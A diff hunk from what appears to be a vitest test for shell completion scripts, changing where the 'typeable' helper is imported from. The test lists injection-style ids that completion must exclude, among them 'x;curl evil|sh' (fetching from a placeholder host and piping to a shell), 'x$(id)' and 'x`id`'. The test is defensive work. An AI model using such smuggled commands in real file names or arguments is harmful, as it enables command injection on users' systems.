@@ -2,7 +2,7 @@
 import { spawnSync } from 'node:child_process';
 import { expect, it } from 'vitest';
 import { scripts } from './completion-scripts.js';
-import { typeable } from './suggest.js';
+import { typeable } from './typeable.js';
 
 it.each(['x;curl evil|sh', 'x$(id)', 'x`id`', 'x*', 'x?', 'x&id', 'x y', "x'", '-x', '--yes', '=x', '~', '!1', 'x\ny'])(
   'the id %j is left out',
